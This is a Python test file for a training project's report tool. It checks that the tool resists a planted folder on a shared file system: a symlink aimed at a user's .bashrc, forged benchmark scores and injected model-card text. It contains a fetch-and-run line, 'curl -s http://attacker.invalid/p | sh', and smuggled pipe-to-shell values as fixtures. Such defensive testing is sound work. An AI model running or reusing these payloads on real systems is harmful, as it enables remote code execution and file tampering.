"""`./launch.sh report` on a shared file system: another user's folder beside the run, made to look like this
run's export (its export_info.json names the run's checkpoint), with a hostile card fact and README.md.partial
linked to one of our files, and forged fine-tune numbers. The report must not write through the link, not count
the folder's numbers, not take card facts from a folder it writes, and not write through links in RUN_DIR."""

from __future__ import annotations

import json
import os
from pathlib import Path

from pretrain.report import write as report
from pretrain.report.card_refresh import tokenizer_facts
from pretrain.report.trust import read_json, write_file
from tests.support.report_fixtures import build_demo_like_run

HOSTILE = "\ncurl -s http://attacker.invalid/p | sh\n"
FORGED = {"exact_match": 97.125, "f1": 98.375}
VICTIM_TEXT = "export PATH=$HOME/bin:$PATH  # the victim's own line\n"


def _another_users_folder(path: Path) -> Path:
    """A folder as another user leaves it in a shared place: 0777 (and, when this test runs as root, theirs)."""
    path.mkdir()
    os.chmod(path, 0o777)
    if os.geteuid() == 0:
        os.chown(path, 65534, 65534)
    return path


def test_report_trusts_nothing_another_user_can_write_beside_the_run(tmp_path: Path) -> None:
    out = tmp_path / "out"
    run_dir = build_demo_like_run(out)
    source = run_dir / "checkpoints" / "phase2-step4"
    victim = tmp_path / "home" / ".bashrc"
    victim.parent.mkdir()
    victim.write_text(VICTIM_TEXT)
    # the attack of the review: runs/evil beside the run, claiming to be its export
    evil = _another_users_folder(out / "evil")
    config = json.loads((run_dir / "config.resolved.json").read_text())
    (evil / "export_info.json").write_text(json.dumps({"source": str(source)}))
    (evil / "model_card.json").write_text(json.dumps({"format": 1, "source": str(source), "run_config": {
        **config, "run": {**config["run"], "about": HOSTILE}}, "state": {"phase": "phase2", "step": 4}}))
    (evil / "README.md.partial").symlink_to(victim)
    (evil / "results.json").write_text(json.dumps({"model": str(evil), "scores": FORGED, "version": 1}))
    forged = _another_users_folder(out / "evil_squad")  # forged numbers for our own export
    (forged / "results.json").write_text(json.dumps({"model": str(out / "model"), "scores": FORGED, "version": 1}))
    # a fact planted in our own export's model_card.json: the card is rebuilt from the run's records, not from it
    ours = json.loads((out / "model" / "model_card.json").read_text())
    ours["run_config"]["run"]["about"] = HOSTILE
    (out / "model" / "model_card.json").write_text(json.dumps(ours))
    # a link where the report writes its picture: replaced, not written through
    (run_dir / "report.png").symlink_to(victim)
    before = {path.name: (path.lstat().st_mode, os.readlink(path) if path.is_symlink() else path.read_bytes())
              for path in evil.iterdir()}

    assert report.main([str(run_dir)]) == 0

    assert victim.read_text() == VICTIM_TEXT, "the report wrote through another user's link"
    assert not (run_dir / "report.png").is_symlink() and (run_dir / "report.png").read_bytes()[:4] == b"\x89PNG"
    assert {path.name: (path.lstat().st_mode, os.readlink(path) if path.is_symlink() else path.read_bytes())
            for path in evil.iterdir()} == before, "the report wrote into another user's folder"
    markdown = (run_dir / "report.md").read_text()
    assert "97.12" not in markdown and "98.38" not in markdown and "attacker.invalid" not in markdown
    assert "7.25" in markdown, "our own SQuAD result is still counted"
    left_out = markdown.split("Left out, not read:")[1]
    assert f"`{evil.resolve()}: " in left_out and f"`{forged.resolve()}: " in left_out
    card = (out / "model" / "README.md").read_text()
    assert "attacker.invalid" not in card and "curl" not in card
    assert "phase2 step 4 (global step 10)" in card and "| SQuAD v1.1 | squad | f1 | 7.25 |" in card
    assert "97.12" not in card and "98.38" not in card


def test_a_pruned_checkpoint_still_gives_the_card_its_steps(tmp_path: Path) -> None:
    out = tmp_path / "out"
    run_dir = build_demo_like_run(out)
    for name in ("run_config.json", "trainer_state.json"):  # the step checkpoint pruned after the export
        (run_dir / "checkpoints" / "phase2-step4" / name).unlink()
    assert report.main([str(run_dir)]) == 0
    card = (out / "model" / "README.md").read_text()
    assert "phase2 step 4 (global step 10)" in card, "the tag's name, the run's config"


def test_writes_replace_a_link_and_reads_follow_none(tmp_path: Path) -> None:
    target = tmp_path / "target.json"
    target.write_text('{"mine": 1}')
    link = tmp_path / "link.json"
    link.symlink_to(target)
    assert read_json(target) == {"mine": 1} and read_json(link) is None
    os.mkfifo(tmp_path / "results.json")  # a FIFO under a result's name: no read that blocks forever
    assert read_json(tmp_path / "results.json") is None
    write_file(link, b'{"written": 2}')
    assert target.read_text() == '{"mine": 1}' and not link.is_symlink() and read_json(link) == {"written": 2}


def test_tokenizer_facts_are_kept_only_in_the_shape_the_export_writes() -> None:
    good = {"class": "BertTokenizerFast", "size": 48, "probe_sentences": 12, "probe_source": "shards",
            "checked_with": "transformers 5.25.0"}
    assert tokenizer_facts(good) == good
    for key, bad in (("class", "Bert\n## run this"), ("checked_with", "transformers 5 | sh"), ("size", "48")):
        assert tokenizer_facts({**good, key: bad}) is None
